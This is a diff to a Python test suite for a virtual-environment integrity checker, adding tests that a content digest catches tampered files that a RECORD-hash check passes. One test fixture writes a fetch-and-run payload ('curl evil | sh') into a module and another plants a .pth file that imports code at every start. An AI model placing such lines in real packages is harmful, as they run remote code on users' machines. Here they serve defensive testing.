@@ -2,6 +2,7 @@
 
 import base64
 import hashlib
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -60,6 +61,18 @@ def check(venv: Path, constraints: Path) -> tuple[int, str]:
         [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints)], capture_output=True, text=True, check=False
     )
     return result.returncode, result.stderr
+
+
+def digest(venv: Path, constraints: Path) -> str:
+    """The digest verify_venv.py prints for a venv that passes its check."""
+    result = subprocess.run(
+        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints), "--digest"],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert re.fullmatch(r"[0-9a-f]{64}\n", result.stdout), result.stdout
+    return result.stdout.strip()
 
 
 def test_an_unchanged_venv_passes_and_loses_its_bytecode(venv: Path, constraints: Path) -> None:
@@ -125,6 +138,41 @@ def test_a_changed_venv_is_refused_with_what_changed(venv: Path, constraints: Pa
     assert message in errors
 
 
+def rewrite_with_record(site: Path, path: str, data: bytes) -> None:
+    """What a job on the runner can do: change a file and give its RECORD the new hash."""
+    (site / path).parent.mkdir(parents=True, exist_ok=True)
+    (site / path).write_bytes(data)
+    record = site / "six-1.17.0.dist-info" / "RECORD"
+    rows = [row for row in record.read_text().splitlines() if not row.startswith(f"{path},")]
+    record.write_text("\n".join([f"{path},{record_hash(data)},{len(data)}", *rows]) + "\n")
+
+
+@pytest.mark.parametrize(
+    ("path", "data"),
+    [
+        pytest.param("six.py", b"import os; os.system('curl evil | sh')\n", id="a changed module"),
+        pytest.param("zz-hook.pth", b"import evil\n", id="a .pth that runs at every start"),
+    ],
+)
+def test_the_digest_sees_what_the_record_check_cannot(venv: Path, constraints: Path, path: str, data: bytes) -> None:
+    before = digest(venv, constraints)
+    assert digest(venv, constraints) == before  # stable, bytecode caches or not
+    rewrite_with_record(site_of(venv), path, data)
+    assert check(venv, constraints) == (0, "")  # RECORD and file agree: the check passes
+    assert digest(venv, constraints) != before
+
+
+def test_no_digest_for_a_venv_that_fails_the_check(venv: Path, constraints: Path) -> None:
+    (site_of(venv) / "six.py").write_bytes(b"changed\n")
+    result = subprocess.run(
+        [BASE_PYTHON, "-I", str(VERIFY), str(venv), str(constraints), "--digest"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert (result.returncode, result.stdout) == (1, "")
+
+
 def test_the_venv_these_tests_run_in_passes(constraints: Path) -> None:
     # A real venv, made by ensure-venv.sh with pip: every file checks out against the real pins.
     status, errors = check(Path(sys.prefix), ROOT / "constraints.txt")
@@ -136,13 +184,15 @@ FAKE_PYTHON = """#!/usr/bin/env bash
 echo "$*" >>"$FAKE_LOG"
 case "$1 $2" in
   "-c "*) echo "3.11.7 x86_64" ;;
-  "-I "*) exit "$FAKE_VERIFY_STATUS" ;;
+  "-I "*)
+    [[ "$FAKE_VERIFY_STATUS" == 0 && "$*" == *--digest* ]] && echo "$FAKE_DIGEST"
+    exit "$FAKE_VERIFY_STATUS" ;;
   "-m venv") mkdir -p "$3/bin" && cp "$0" "$3/bin/python" ;;
 esac
 """
 
 
-def ensure_venv(tmp_path: Path, verify_status: int) -> tuple[list[str], str]:
+def ensure_venv(tmp_path: Path, verify_status: int, *args: str, **env: str) -> tuple[list[str], str, str]:
     fake = tmp_path / "python3.11"
     fake.write_text(FAKE_PYTHON)
     fake.chmod(0o755)
@@ -155,27 +205,55 @@ def ensure_venv(tmp_path: Path, verify_status: int) -> tuple[list[str], str]:
         "TLB_VENV_DIR": str(tmp_path / "venvs"),
         "FAKE_LOG": str(log),
         "FAKE_VERIFY_STATUS": str(verify_status),
+        "FAKE_DIGEST": "d" * 64,
+        **env,
     }
     result = subprocess.run(
-        ["bash", str(ROOT / "scripts" / "ensure-venv.sh")], env=env, check=True, capture_output=True, text=True
+        ["bash", str(ROOT / "scripts" / "ensure-venv.sh"), *args],
+        env=env,
+        check=True,
+        capture_output=True,
+        text=True,
     )
-    return log.read_text().splitlines(), result.stderr
+    return log.read_text().splitlines(), result.stderr, result.stdout
+
+
+def built(calls: list[str]) -> bool:
+    return any(call.startswith("-m venv ") for call in calls)
+
+
+def verified(calls: list[str]) -> bool:
+    return any(call.startswith("-I ") and "verify_venv.py" in call for call in calls)
 
 
 def test_ensure_venv_builds_again_when_the_check_fails(tmp_path: Path) -> None:
-    def built(calls: list[str]) -> bool:
-        return any(call.startswith("-m venv ") for call in calls)
-
-    def verified(calls: list[str]) -> bool:
-        return any(call.startswith("-I ") and "verify_venv.py" in call for call in calls)
-
-    first, _ = ensure_venv(tmp_path, verify_status=0)
+    first, _, _ = ensure_venv(tmp_path, verify_status=0)
     assert built(first)
     assert not verified(first)  # nothing to check yet
-    unchanged, _ = ensure_venv(tmp_path, verify_status=0)
+    unchanged, _, _ = ensure_venv(tmp_path, verify_status=0)
     assert verified(unchanged)
     assert not built(unchanged)
-    changed, log = ensure_venv(tmp_path, verify_status=1)
+    changed, log, _ = ensure_venv(tmp_path, verify_status=1)
     assert verified(changed)
     assert built(changed)
     assert "::warning title=Trainer venv changed::" in log
+
+
+def test_inspect_builds_nothing_and_gives_a_digest_only_for_a_venv_that_checks_out(tmp_path: Path) -> None:
+    calls, _, out = ensure_venv(tmp_path, 0, "--inspect")
+    assert not built(calls)
+    venv = next(line for line in out.splitlines() if line.startswith("venv="))[len("venv=") :]
+    assert out.splitlines() == [f"venv={venv}", "digest="]  # nothing there yet
+    ensure_venv(tmp_path, 0)
+    assert ensure_venv(tmp_path, 0, "--inspect")[2].splitlines() == [f"venv={venv}", f"digest={'d' * 64}"]
+    assert ensure_venv(tmp_path, 1, "--inspect")[2].splitlines() == [f"venv={venv}", "digest="]
+
+
+@pytest.mark.parametrize(("recorded", "rebuilt"), [("false", True), ("true", False), ("", False)])
+def test_a_venv_no_trusted_run_recorded_is_built_again(tmp_path: Path, recorded: str, rebuilt: bool) -> None:
+    ensure_venv(tmp_path, 0)
+    digest_file = tmp_path / "digest"
+    calls, log, _ = ensure_venv(tmp_path, 0, TLB_VENV_RECORDED=recorded, TLB_VENV_DIGEST_FILE=str(digest_file))
+    assert built(calls) == rebuilt
+    assert ("::warning title=Trainer venv not recorded::" in log) == rebuilt
+    assert digest_file.read_text() == "d" * 64 + "\n"  # what the action records afterwards
